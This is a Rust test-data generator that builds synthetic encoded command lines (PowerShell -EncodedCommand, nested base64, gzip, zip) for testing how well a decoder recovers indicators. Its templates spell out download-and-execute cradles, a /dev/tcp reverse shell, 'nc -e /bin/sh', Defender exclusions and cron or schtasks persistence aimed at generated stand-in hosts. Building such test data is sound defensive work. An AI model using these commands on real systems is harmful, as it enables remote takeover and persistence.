//! Deterministic synthetic command lines that hide indicators inside encoded payloads.
//!
//! Used by the decoder's recall tests and by throughput measurements: every sample
//! records the indicators (IPv4 addresses, URLs, domains, MD5/SHA-1/SHA-256 digests)
//! written into its payload before encoding, so a test can check how many of them
//! decoding brings back. The same seed always yields the same rows, on every
//! platform, because the generator carries its own small PRNG instead of depending
//! on a crate whose output may change between releases.
//!
//! The five payload categories follow what analysts meet in process-creation logs:
//! PowerShell `-EncodedCommand` (UTF-16LE), a UTF-16LE script that itself decodes a
//! UTF-8 base64 string, base64 nested two or three times in shell one-liners, gzip
//! compressed then base64 encoded, and base64 zip archives with several members.

use std::io::Write;

use base64::Engine as _;

const B64: base64::engine::GeneralPurpose = base64::engine::general_purpose::STANDARD;

/// The ways a payload is wrapped, one per recall category of issue 3.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Category {
    /// `powershell -EncodedCommand <base64 of UTF-16LE script>`.
    EncodedCommand,
    /// A UTF-16LE `-EncodedCommand` script that decodes a UTF-8 base64 string.
    Utf16OuterUtf8Inner,
    /// Base64 of UTF-8 text holding base64 of UTF-8 text (two or three layers).
    NestedUtf8,
    /// Gzip-compressed text, then base64.
    GzipBase64,
    /// A zip archive (deflate) with several text members, then base64.
    ZipMembers,
}

impl Category {
    /// Every category, in a fixed order.
    pub const ALL: [Category; 5] = [
        Category::EncodedCommand,
        Category::Utf16OuterUtf8Inner,
        Category::NestedUtf8,
        Category::GzipBase64,
        Category::ZipMembers,
    ];

    /// A short stable name, for reports.
    pub fn name(self) -> &'static str {
        match self {
            Category::EncodedCommand => "utf16le_encoded_command",
            Category::Utf16OuterUtf8Inner => "utf16le_outer_utf8_inner",
            Category::NestedUtf8 => "nested_base64_utf8",
            Category::GzipBase64 => "gzip_base64",
            Category::ZipMembers => "zip_members",
        }
    }
}

/// What kind of indicator was hidden.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum IndicatorKind {
    Ipv4,
    Url,
    Domain,
    Md5,
    Sha1,
    Sha256,
}

/// One hidden indicator and its kind.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Indicator {
    pub kind: IndicatorKind,
    pub value: String,
}

/// One synthetic row: the text as it would appear in a log column and the indicators
/// hidden inside its encoded payload.
#[derive(Debug, Clone)]
pub struct Sample {
    pub category: Category,
    pub text: String,
    pub indicators: Vec<Indicator>,
}

/// SplitMix64: tiny, fast, and fixed forever, which is what a reproducible corpus needs.
#[derive(Debug, Clone)]
struct Rng(u64);

impl Rng {
    fn next_u64(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }

    fn below(&mut self, n: usize) -> usize {
        (self.next_u64() % n as u64) as usize
    }

    fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        &items[self.below(items.len())]
    }

    fn bytes(&mut self, n: usize) -> Vec<u8> {
        (0..n).map(|_| self.next_u64() as u8).collect()
    }
}

const WORDS: &[&str] = &[
    "update",
    "cdn",
    "secure",
    "login",
    "portal",
    "files",
    "sync",
    "cloud",
    "mail",
    "static",
    "assets",
    "telemetry",
    "office",
    "drive",
    "share",
    "docs",
    "api",
    "edge",
    "metrics",
    "auth",
    "billing",
    "support",
    "invoice",
    "media",
    "backup",
    "relay",
    "node",
    "proxy",
    "store",
    "dl",
];
const TLDS: &[&str] = &[
    "com", "net", "org", "info", "biz", "io", "ru", "top", "xyz", "co.uk",
];
const PATH_PARTS: &[&str] = &[
    "wp-content",
    "images",
    "js",
    "css",
    "download",
    "gate.php",
    "a.ps1",
    "stage2.bin",
    "x.sh",
    "update.exe",
    "loader",
    "p",
    "c2",
    "api-v2",
    "index.html",
    "config.json",
];
const HOSTNAMES: &[&str] = &["WS-0142", "FIN-LT-22", "DC01", "SRV-APP-07", "HR-PC-118"];
const USERS: &[&str] = &["jsmith", "a.khan", "svc_backup", "mlopez", "Administrator"];

/// Produces [`Sample`]s; the same seed always gives the same sequence.
#[derive(Debug, Clone)]
pub struct Generator {
    rng: Rng,
}

impl Generator {
    pub fn new(seed: u64) -> Self {
        Generator { rng: Rng(seed) }
    }

    /// `n` samples cycling through every category.
    pub fn samples(&mut self, n: usize) -> Vec<Sample> {
        (0..n)
            .map(|i| {
                let category = Category::ALL[i % Category::ALL.len()];
                self.sample(category)
            })
            .collect()
    }

    /// `n` log-column values as found in a real table: about a third carry an encoded
    /// payload (all categories mixed), the rest are ordinary command lines, some of
    /// them with long base64-alphabet runs that are not base64 (paths, GUID-free
    /// tokens) so the decoder also meets its failure paths.
    pub fn table_rows(&mut self, n: usize) -> Vec<String> {
        (0..n)
            .map(|i| match self.rng.below(3) {
                0 => {
                    let category = Category::ALL[i % Category::ALL.len()];
                    self.sample(category).text
                }
                _ => self.plain_command_line(),
            })
            .collect()
    }

    /// One sample of the given category.
    pub fn sample(&mut self, category: Category) -> Sample {
        let mut indicators = Vec::new();
        let text = match category {
            Category::EncodedCommand => {
                let script = self.powershell_script(&mut indicators);
                self.encoded_command(&script)
            }
            Category::Utf16OuterUtf8Inner => {
                let inner = self.powershell_script(&mut indicators);
                let inner_b64 = B64.encode(inner.as_bytes());
                let var = self.rng.pick(&["$s", "$cmd", "$x", "$payload"]).to_string();
                let outer = format!(
                    "{var}=[System.Text.Encoding]::UTF8.GetString([System.Convert]::FromBase64String('{inner_b64}'));\
                     Invoke-Expression {var}"
                );
                self.encoded_command(&outer)
            }
            Category::NestedUtf8 => {
                let mut layer = self.shell_script(&mut indicators);
                let layers = 2 + self.rng.below(2);
                for _ in 0..layers - 1 {
                    layer = format!(
                        "echo {} | base64 -d | {}",
                        B64.encode(layer.as_bytes()),
                        self.rng.pick(&["sh", "bash", "/bin/sh"])
                    );
                }
                format!(
                    "/bin/bash -c \"echo {} | base64 --decode | bash\"",
                    B64.encode(layer.as_bytes())
                )
            }
            Category::GzipBase64 => {
                let text = if self.rng.below(2) == 0 {
                    self.powershell_script(&mut indicators)
                } else {
                    self.shell_script(&mut indicators)
                };
                let gz = B64.encode(gzip(text.as_bytes()));
                match self.rng.below(2) {
                    0 => format!("sh -c \"echo {gz} | base64 -d | gunzip | sh\""),
                    _ => format!(
                        "powershell.exe -nop -c \"$m=New-Object IO.MemoryStream(,[Convert]::FromBase64String('{gz}'));\
                         IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($m,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()\""
                    ),
                }
            }
            Category::ZipMembers => {
                let members = 1 + self.rng.below(3);
                let mut files = Vec::new();
                for m in 0..members {
                    let (name, body) = match m {
                        0 => ("run.ps1", self.powershell_script(&mut indicators)),
                        1 => ("install.sh", self.shell_script(&mut indicators)),
                        _ => ("notes.txt", self.notes(&mut indicators)),
                    };
                    files.push((name.to_string(), body));
                }
                let zip64 = B64.encode(zip(&files));
                let host = self.rng.pick(HOSTNAMES);
                format!(
                    "cmd.exe /c \"echo {zip64} > %TEMP%\\{host}.b64 && certutil -decode %TEMP%\\{host}.b64 %TEMP%\\pkg.zip\""
                )
            }
        };
        Sample {
            category,
            text,
            indicators,
        }
    }

    fn encoded_command(&mut self, script: &str) -> String {
        let utf16: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
        let flag = self
            .rng
            .pick(&["-EncodedCommand", "-enc", "-e", "-ec", "-EnC"]);
        let exe = self.rng.pick(&[
            "powershell.exe",
            "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
            "pwsh.exe",
        ]);
        let opts = self.rng.pick(&[
            "-NoProfile -NonInteractive -WindowStyle Hidden",
            "-nop -w hidden",
            "-ExecutionPolicy Bypass -NoLogo",
            "",
        ]);
        let sep = if opts.is_empty() { "" } else { " " };
        format!("{exe} {opts}{sep}{flag} {}", B64.encode(utf16))
    }

    fn ipv4(&mut self) -> String {
        // Public-looking first octets: private and reserved ranges would be less
        // realistic for C2 addresses.
        let first = *self
            .rng
            .pick(&[23u8, 45, 62, 77, 91, 103, 141, 185, 193, 203]);
        format!(
            "{first}.{}.{}.{}",
            self.rng.below(256),
            self.rng.below(256),
            1 + self.rng.below(254)
        )
    }

    fn domain(&mut self) -> String {
        let a = self.rng.pick(WORDS);
        let b = self.rng.pick(WORDS);
        let n = self.rng.below(100);
        format!("{a}-{b}{n}.{}", self.rng.pick(TLDS))
    }

    fn url(&mut self, domain: &str) -> String {
        let scheme = self.rng.pick(&["http", "https"]);
        let depth = 1 + self.rng.below(3);
        let path: Vec<&str> = (0..depth).map(|_| *self.rng.pick(PATH_PARTS)).collect();
        format!("{scheme}://{domain}/{}", path.join("/"))
    }

    fn digest(&mut self, kind: IndicatorKind) -> String {
        let len = match kind {
            IndicatorKind::Md5 => 16,
            IndicatorKind::Sha1 => 20,
            _ => 32,
        };
        hex::encode(self.rng.bytes(len))
    }

    fn any_digest(&mut self) -> Indicator {
        let kind = *self.rng.pick(&[
            IndicatorKind::Md5,
            IndicatorKind::Sha1,
            IndicatorKind::Sha256,
        ]);
        Indicator {
            kind,
            value: self.digest(kind),
        }
    }

    /// A download-cradle style PowerShell script holding one indicator of each kind.
    fn powershell_script(&mut self, found: &mut Vec<Indicator>) -> String {
        let url_domain = self.domain();
        let url = self.url(&url_domain);
        let ip = self.ipv4();
        let domain = self.domain();
        let digest = self.any_digest();
        let port = *self.rng.pick(&[443u16, 8080, 4444, 8443, 53]);
        let ua = self.rng.pick(&[
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64)",
            "Microsoft-CryptoAPI/10.0",
        ]);
        let script = match self.rng.below(3) {
            0 => format!(
                "$wc=New-Object System.Net.WebClient;$wc.Headers.Add('User-Agent','{ua}');\
                 $d=$wc.DownloadString('{url}');if((Get-FileHash -InputStream ([IO.MemoryStream]::new([Text.Encoding]::UTF8.GetBytes($d)))).Hash -ne '{}'){{exit}};\
                 Test-NetConnection -ComputerName {ip} -Port {port} | Out-Null;Resolve-DnsName {domain};IEX $d",
                digest.value
            ),
            1 => format!(
                "$ErrorActionPreference='SilentlyContinue';$u='{url}';$f=\"$env:TEMP\\svchost.exe\";\
                 Invoke-WebRequest -Uri $u -OutFile $f -UseBasicParsing;\
                 $h=(Get-FileHash $f -Algorithm SHA256).Hash;Write-Output \"{} $h\";\
                 $c=New-Object Net.Sockets.TCPClient('{ip}',{port});nslookup {domain};Start-Process $f",
                digest.value
            ),
            _ => format!(
                "Add-MpPreference -ExclusionPath $env:APPDATA;\
                 [Net.ServicePointManager]::SecurityProtocol='Tls12';\
                 (New-Object Net.WebClient).DownloadFile('{url}',\"$env:APPDATA\\update.exe\");\
                 # expected {}\n\
                 schtasks /create /tn Updater /tr \"$env:APPDATA\\update.exe --server {ip}:{port} --fallback {domain}\" /sc onlogon /f",
                digest.value
            ),
        };
        found.push(Indicator {
            kind: IndicatorKind::Url,
            value: url,
        });
        found.push(Indicator {
            kind: IndicatorKind::Ipv4,
            value: ip,
        });
        found.push(Indicator {
            kind: IndicatorKind::Domain,
            value: domain,
        });
        found.push(digest);
        script
    }

    /// A Linux dropper one-liner holding one indicator of each kind.
    fn shell_script(&mut self, found: &mut Vec<Indicator>) -> String {
        let url_domain = self.domain();
        let url = self.url(&url_domain);
        let ip = self.ipv4();
        let domain = self.domain();
        let digest = self.any_digest();
        let port = *self.rng.pick(&[443u16, 8080, 4444, 9001, 1337]);
        let script = match self.rng.below(3) {
            0 => format!(
                "curl -fsSL {url} -o /tmp/.x && echo '{}  /tmp/.x' | sha256sum -c && chmod +x /tmp/.x && /tmp/.x {ip} {port}; dig +short {domain}",
                digest.value
            ),
            1 => format!(
                "wget -q -O- {url} | sh; bash -i >& /dev/tcp/{ip}/{port} 0>&1; echo \"id={}\" >> /var/tmp/.cache; host {domain}",
                digest.value
            ),
            _ => format!(
                "(crontab -l; echo \"*/5 * * * * curl -s {url} | sh\") | crontab -\nnc {ip} {port} -e /bin/sh\n# {}\nping -c1 {domain}",
                digest.value
            ),
        };
        found.push(Indicator {
            kind: IndicatorKind::Url,
            value: url,
        });
        found.push(Indicator {
            kind: IndicatorKind::Ipv4,
            value: ip,
        });
        found.push(Indicator {
            kind: IndicatorKind::Domain,
            value: domain,
        });
        found.push(digest);
        script
    }

    /// Free text, as left beside droppers in archives.
    fn notes(&mut self, found: &mut Vec<Indicator>) -> String {
        let ip = self.ipv4();
        let domain = self.domain();
        let digest = self.any_digest();
        found.push(Indicator {
            kind: IndicatorKind::Ipv4,
            value: ip.clone(),
        });
        found.push(Indicator {
            kind: IndicatorKind::Domain,
            value: domain.clone(),
        });
        let text = format!(
            "primary: {ip}\nbackup: {domain}\nbuild hash: {}\nrotate keys weekly\n",
            digest.value
        );
        found.push(digest);
        text
    }

    /// A command line with no encoded payload.
    fn plain_command_line(&mut self) -> String {
        let user = self.rng.pick(USERS);
        let host = self.rng.pick(HOSTNAMES);
        match self.rng.below(5) {
            0 => format!(
                "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule /user:{host}\\{user}"
            ),
            1 => format!(
                "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer --field-trial-handle={},{}",
                self.rng.next_u64() % 100_000,
                self.rng.next_u64() % 1_000_000_000
            ),
            2 => format!(
                "/usr/bin/rsync -az /srv/data/exports/quarterly/reports/archive {user}@{}:/backup/",
                self.domain()
            ),
            3 => {
                // An opaque session token: base64 alphabet, but not meant to decode.
                let token: String = (0..40 + self.rng.below(20))
                    .map(|_| *self.rng.pick(b"aZ0q7Kx") as char)
                    .collect();
                format!("/opt/agent/bin/agent --session {token} --host {host}")
            }
            _ => format!("net use \\\\{host}\\C$ /user:{user}"),
        }
    }
}

/// Gzip `data` (one member, default level).
pub fn gzip(data: &[u8]) -> Vec<u8> {
    let mut enc = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    enc.write_all(data).expect("writing to a Vec cannot fail");
    enc.finish().expect("writing to a Vec cannot fail")
}

/// A deflate zip archive holding `files` (name, text) in order.
pub fn zip(files: &[(String, String)]) -> Vec<u8> {
    let mut writer = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let options = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated);
    for (name, body) in files {
        writer
            .start_file(name.as_str(), options)
            .expect("zip entry names from the generator are valid");
        writer
            .write_all(body.as_bytes())
            .expect("writing to a Vec cannot fail");
    }
    writer
        .finish()
        .expect("writing to a Vec cannot fail")
        .into_inner()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn same_seed_same_rows() {
        let a = Generator::new(7).samples(50);
        let b = Generator::new(7).samples(50);
        assert_eq!(
            a.iter().map(|s| &s.text).collect::<Vec<_>>(),
            b.iter().map(|s| &s.text).collect::<Vec<_>>()
        );
        let c = Generator::new(8).samples(50);
        assert_ne!(a[0].text, c[0].text);
    }

    #[test]
    fn indicators_are_hidden_from_the_raw_text() {
        for sample in Generator::new(1).samples(500) {
            assert!(!sample.indicators.is_empty(), "{:?}", sample.category);
            for ind in &sample.indicators {
                assert!(
                    !sample.text.contains(&ind.value),
                    "{} visible in raw {:?} text",
                    ind.value,
                    sample.category
                );
            }
        }
    }

    #[test]
    fn every_category_and_kind_occurs() {
        let samples = Generator::new(3).samples(200);
        for cat in Category::ALL {
            assert!(samples.iter().any(|s| s.category == cat));
        }
        for kind in [
            IndicatorKind::Ipv4,
            IndicatorKind::Url,
            IndicatorKind::Domain,
            IndicatorKind::Md5,
            IndicatorKind::Sha1,
            IndicatorKind::Sha256,
        ] {
            assert!(samples
                .iter()
                .flat_map(|s| &s.indicators)
                .any(|i| i.kind == kind));
        }
    }

    #[test]
    fn payloads_have_the_headers_file_type_detection_keys_on() {
        let mut g = Generator::new(11);
        let gz = g.sample(Category::GzipBase64).text;
        assert!(gz.contains("H4sI"), "{gz}");
        let z = g.sample(Category::ZipMembers).text;
        // Version 20, no flags, deflate: the local header MSTICPy recognises as "zip".
        assert!(z.contains("UEsDBBQAAAAIA"), "{z}");
    }

    #[test]
    fn encoded_command_payload_is_utf16le_of_the_script() {
        let mut g = Generator::new(5);
        let s = g.sample(Category::EncodedCommand);
        let b64 = s.text.rsplit(' ').next().unwrap();
        let bytes = B64.decode(b64).unwrap();
        let units: Vec<u16> = bytes
            .chunks_exact(2)
            .map(|c| u16::from_le_bytes([c[0], c[1]]))
            .collect();
        let script = String::from_utf16(&units).unwrap();
        for ind in &s.indicators {
            assert!(script.contains(&ind.value));
        }
    }

    #[test]
    fn table_rows_mix_payloads_and_plain_lines() {
        let rows = Generator::new(9).table_rows(300);
        assert_eq!(rows.len(), 300);
        let encoded = rows
            .iter()
            .filter(|r| {
                ["powershell", "pwsh", "base64", "certutil"]
                    .iter()
                    .any(|w| r.contains(w))
            })
            .count();
        assert!(encoded > 50 && encoded < 250, "{encoded}");
    }
}
